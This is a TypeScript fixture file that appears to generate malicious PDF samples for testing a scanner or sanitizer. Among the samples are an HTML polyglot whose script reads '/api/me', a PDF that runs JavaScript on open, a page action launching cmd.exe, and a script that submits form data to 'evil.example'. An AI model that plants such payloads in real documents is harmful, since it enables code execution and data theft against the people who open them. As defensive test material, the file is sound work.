import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';

/** The HTML half of a polyglot: what a browser would run if it read the file as a page. */
export const HTML_PAGE = '<html><body><script>fetch("/api/me").then(r=>r.text()).then(alert)</script></body></html>';

/** A real PDF of `pages` pages with a line of text on each, written as plain objects (no object streams). */
export async function makePdf(pages = 1, build?: (document: PDFDocument) => void): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let index = 0; index < pages; index++) {
    document.addPage([595, 842]).drawText(`Application form, page ${index + 1}`, { x: 50, y: 780, size: 14, font });
  }
  build?.(document);
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** Inserts `text` just before the last occurrence of `marker` (say `xref` or `%%EOF`). */
export function insertBefore(pdf: Buffer, marker: string, text: string): Buffer {
  const at = pdf.lastIndexOf(marker, undefined, 'latin1');
  if (at < 0) throw new Error(`no ${marker} in the PDF`);
  return Buffer.concat([pdf.subarray(0, at), Buffer.from(text, 'latin1'), pdf.subarray(at)]);
}

/** A PDF that runs JavaScript when opened (/OpenAction). */
export const makeOpenActionScriptPdf = () =>
  makePdf(1, (document) =>
    document.catalog.set(
      PDFName.of('OpenAction'),
      document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("hello")') }),
    ),
  );

/** A PDF whose page, once opened, launches a program (/AA on the page with a /Launch action). */
export const makeLaunchPdf = () =>
  makePdf(1, (document) =>
    document
      .getPage(0)
      .node.set(
        PDFName.of('AA'),
        document.context.obj({ O: { S: 'Launch', F: PDFString.of('cmd.exe'), NewWindow: true } }),
      ),
  );

/** A PDF with a document-level script in its name tree (/Names /JavaScript), written in object streams. */
export async function makeNamedScriptPdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  const script = document.context.register(
    document.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }),
  );
  const names = document.context.obj({ JavaScript: { Names: [PDFString.of('init'), script] } });
  document.catalog.set(PDFName.of('Names'), names);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/** A password-protected PDF (AES-256, as readers write them today). */
export async function makeEncryptedPdf(userPassword = 'secret'): Promise<Buffer> {
  const document = await PDFDocument.load(await makePdf());
  document.encrypt({ userPassword, ownerPassword: 'owner-password' });
  return Buffer.from(await document.save());
}
